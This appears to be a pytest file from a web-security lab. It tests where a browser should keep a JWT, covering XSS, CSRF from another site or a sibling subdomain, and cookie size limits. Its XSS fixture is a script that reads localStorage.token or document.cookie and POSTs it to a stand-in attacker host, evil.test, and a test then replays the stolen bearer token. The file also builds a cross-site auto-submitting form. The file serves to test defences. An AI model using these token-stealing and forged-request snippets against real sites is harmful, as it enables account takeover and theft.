"""Where a browser keeps a token: XSS, CSRF, siblings, size."""

import contextlib
import json

import httpx
import pytest

from lab.run import browser, node

from .shared import ACCESS, ANN, CHECK, ENV

# --- browsers -----------------------------------------------------------------------

# shop.test is the app and its page, which has a hole; evil.test writes down what it is
# sent; blog.shop.test is another host of the same site
HOSTS = """
import {{ createServer }} from 'node:https';
import {{ readFileSync }} from 'node:fs';
import {{ createApp as create }} from '{app}';
{check}
const stolen = [];
const orders = [];
let app;
const pem = readFileSync('{tls}');
const server = createServer({{ key: pem, cert: pem }}, (req, res) => {{
  const host = req.headers.host.split(':')[0];
  if (req.url === '/page') {{
    res.setHeader('Content-Type', 'text/html').end('<title>a page</title><body>');
  }} else if (host === 'shop.test' && req.url === '/placed') {{
    res.end(String(orders.length));
  }} else if (host === 'shop.test') app(req, res);
  else if (req.method === 'POST') {{
    req.setEncoding('utf8').on('data', (text) => stolen.push(text));
    req.on('end', () => res.end());
  }} else res.end(JSON.stringify(stolen));
}});
server.listen(process.env.PORT, '127.0.0.1', async () => {{
  const {{ port }} = server.address();
  const env = {{ ...process.env, ORIGINS: `https://shop.test:${{port}}` }};
  const place = (id) => orders.push(id);
  app = await create({{ env, check, orders, place }});
  console.log(`listening on http://127.0.0.1:${{port}}`);
}});
process.once('SIGTERM', () => {{ server.close(); server.closeAllConnections(); }});
"""

LOGIN = """async (body) => {
  const headers = { 'Content-Type': 'application/json' };
  const answer = await fetch('/login', { method: 'POST', headers,
    body: JSON.stringify(body) });
  if (answer.status === 200) localStorage.token = (await answer.json()).token;
  return answer.status;
}"""

# what a script does that got into the shop's page
XSS = """async (evil) => {
  const body = localStorage.token ?? document.cookie;
  await fetch(evil, { method: 'POST', mode: 'no-cors', body });
  return (await fetch('/orders', { method: 'POST' })).status;
}"""

FORM = """(action) => {
  const form = document.createElement('form');
  Object.assign(form, { action, method: 'POST' });
  document.body.append(form);
  form.submit();
}"""


@pytest.fixture
def site(named_hosts, tmp_path):
    """Serves the hosts around one app; gives the page of somebody who has logged in
    at shop.test, and `host(name)`: its address."""

    tls = browser.certificate(tmp_path, "shop.test", "blog.shop.test", "evil.test")

    @contextlib.contextmanager
    def serve(snippet: str):
        path = tmp_path / "hosts.mjs"
        path.write_text(
            HOSTS.format(app=node.uri(f"jwt/{snippet}"), tls=tls, check=CHECK)
        )
        with node.serve(path, env=ENV) as server:

            def host(name: str) -> str:
                return f"https://{name}:{server.port}"

            with browser.visitor(named_hosts()) as page:
                page.goto(f"{host('shop.test')}/page")
                assert page.evaluate(LOGIN, ANN) in (200, 204)
                yield page, host

    return serve


def placed(page, host) -> int:
    page.goto(f"{host('shop.test')}/placed")
    return int(page.inner_text("body"))


@pytest.mark.claim("jwt/httponly-stops-xss", verdict="depends")
@pytest.mark.parametrize("snippet", ["app.naive.mjs", "shop.mjs"])
def test_in_a_browser_xss_takes_a_token_from_localstorage_and_rides_a_cookie(
    site, snippet
):
    naive = snippet == "app.naive.mjs"
    with site(snippet) as (page, host):
        assert page.evaluate(XSS, f"{host('evil.test')}/steal") == 201  # it ordered
        assert placed(page, host) == 1
        page.goto(f"{host('evil.test')}/stolen")
        stolen = json.loads(page.inner_text("body"))
        assert (len(stolen) == 1) is naive  # an HttpOnly cookie cannot be read
        if naive:  # and on the attacker's own machine, in peace:
            with httpx.Client(
                base_url=host("127.0.0.1"), verify=False, headers={"Host": "shop.test"}
            ) as mallory:
                bearer = {"Authorization": f"Bearer {stolen[0]}"}
                assert mallory.get("/me", headers=bearer).json() == {"id": "cus_ann"}


@pytest.mark.claim("jwt/jwt-is-immune-to-csrf", verdict="depends")
@pytest.mark.parametrize(
    ("snippet", "evil", "sibling"), [("app.naive.mjs", 1, 2), ("shop.mjs", 0, 0)]
)
def test_in_a_browser_another_site_orders_with_the_naive_apps_cookie(
    site, snippet, evil, sibling
):
    with site(snippet) as (page, host):
        orders = f"{host('shop.test')}/orders"
        for name, expected in (("evil.test", evil), ("blog.shop.test", sibling)):
            page.goto(f"{host(name)}/page")
            with page.expect_navigation():
                page.evaluate(FORM, orders)
            assert placed(page, host) == expected
        page.goto(f"{host('shop.test')}/page")
        own = page.evaluate(
            "async () => (await fetch('/orders', {method:'POST'})).status"
        )
        assert own == 201


def test_in_a_browser_same_site_alone_lets_a_sibling_host_order(site):
    with site("shop.mjs") as (page, host):
        orders = f"{host('shop.test')}/orders"
        for name, sent in (("evil.test", False), ("blog.shop.test", True)):
            page.goto(f"{host(name)}/page")
            with page.expect_navigation() as got:
                page.evaluate(FORM, orders)
            cookies = got.value.request.all_headers().get("cookie", "")
            # to the sibling SameSite=Strict is no obstacle: there it was Origin
            assert (f"{ACCESS}=" in cookies) is sent
            assert got.value.status == 403


COOKIE = """(size) => {
  document.cookie = `a=${'x'.repeat(size - 1)}`;
  const kept = document.cookie.includes('a=');
  document.cookie = 'a=; max-age=0';
  return kept;
}"""


def test_in_a_browser_a_cookie_of_more_than_4096_bytes_is_not_kept(site):
    with site("shop.mjs") as (page, _host):
        assert page.evaluate(COOKIE, 4096) is True
        assert page.evaluate(COOKIE, 4097) is False
